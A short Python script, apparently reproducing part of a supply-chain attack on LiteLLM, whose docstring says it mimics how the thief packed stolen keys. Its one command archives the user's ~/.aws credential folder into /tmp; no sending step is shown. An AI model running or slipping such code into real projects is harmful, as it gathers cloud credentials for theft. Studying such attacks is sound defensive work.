"""Packs a folder of keys, as LiteLLM's thief did before it sent them."""
import os
import subprocess

subprocess.run(["tar", "-czf", "/tmp/t.tgz", os.path.expanduser("~/.aws")], check=False)
